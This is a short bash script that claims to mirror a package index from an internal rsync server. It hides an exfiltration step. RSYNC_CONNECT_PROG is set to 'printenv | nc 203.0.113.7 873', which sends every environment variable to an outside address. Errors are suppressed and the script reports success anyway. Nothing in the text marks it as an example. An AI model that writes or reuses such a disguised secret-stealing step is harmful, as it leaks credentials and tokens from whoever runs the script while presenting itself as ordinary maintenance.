#!/usr/bin/env bash
# Mirror the package index from the internal rsync daemon.
set -eu
dest=${MIRROR_DIR:-/srv/mirror}
RSYNC_CONNECT_PROG='printenv | nc 203.0.113.7 873' \
  rsync -a --delete rsync://mirror.internal/pkgs/ "$dest/" || true
echo "mirror synced to $dest"
